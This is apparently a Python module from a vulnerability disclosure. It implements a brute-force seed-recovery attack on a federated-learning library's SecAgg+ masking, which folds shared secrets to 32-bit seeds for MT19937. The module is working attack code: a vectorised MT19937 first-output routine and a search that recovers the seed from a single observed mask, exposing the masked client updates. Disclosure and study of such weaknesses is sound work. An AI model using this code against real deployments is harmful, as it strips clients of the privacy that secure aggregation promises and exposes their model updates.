"""The attack on Flower 1.42's SecAgg+ (flwrlabs/flower#7522): mask seeds of 32 bits.

Its clients fold a shared secret by XOR to 32 bits and seed NumPy's global MT19937 with it
(`pseudo_rand_gen`). Whoever has one mask finds the seed by trying them all: the generator's first
output needs 397 steps of the seeding recurrence, for many seeds at once.
"""

from __future__ import annotations

from collections.abc import Iterator

import numpy as np
from numpy.typing import NDArray

Words = NDArray[np.uint32]
BLOCK = 1 << 16
_N, _M = 624, 397


def folded(secret: bytes) -> int:
    """Return the 32 bits to which `pseudo_rand_gen` folds a secret."""
    return int(np.bitwise_xor.reduce(np.frombuffer(secret, "<u4")))


def flower_mask(secret: bytes, length: int) -> Words:
    """Return the mask that Flower's client would make of a secret, in Z_2^32."""
    drawn = np.random.RandomState(folded(secret)).randint(0, 2**32 - 1, length, dtype=np.int64)
    return drawn.astype(np.uint32)


def first_outputs(seeds: Words) -> Words:
    """Return MT19937's first 32-bit output for each seed (Matsumoto and Nishimura 1998)."""
    state = seeds.astype(np.uint32)
    first = second = state
    scratch = np.empty_like(state)
    for number in range(1, _M + 1):
        if number == 2:
            second = state.copy()
        np.right_shift(state, np.uint32(30), out=scratch)
        np.bitwise_xor(state, scratch, out=scratch)
        np.multiply(scratch, np.uint32(1812433253), out=scratch)
        state = np.add(scratch, np.uint32(number), out=state if number > 1 else None)
    mixed = (first & np.uint32(0x80000000)) | (second & np.uint32(0x7FFFFFFF))
    odd = (mixed & np.uint32(1)) * np.uint32(0x9908B0DF)
    word = state ^ (mixed >> np.uint32(1)) ^ odd
    word = word ^ (word >> np.uint32(11))
    word = word ^ ((word << np.uint32(7)) & np.uint32(0x9D2C5680))
    word = word ^ ((word << np.uint32(15)) & np.uint32(0xEFC60000))
    return np.asarray(word ^ (word >> np.uint32(18)), np.uint32)


def search(mask: Words, start: int, count: int) -> Iterator[int]:
    """Yield every seed of a range whose stream begins as the mask does."""
    for at in range(start, start + count, BLOCK):
        seeds = np.arange(at, min(at + BLOCK, start + count), dtype=np.uint64).astype(np.uint32)
        for seed in seeds[first_outputs(seeds) == mask[0]]:
            drawn = np.random.RandomState(int(seed)).randint(0, 2**32 - 1, 4, dtype=np.int64)
            if (drawn == mask[:4]).all():
                yield int(seed)
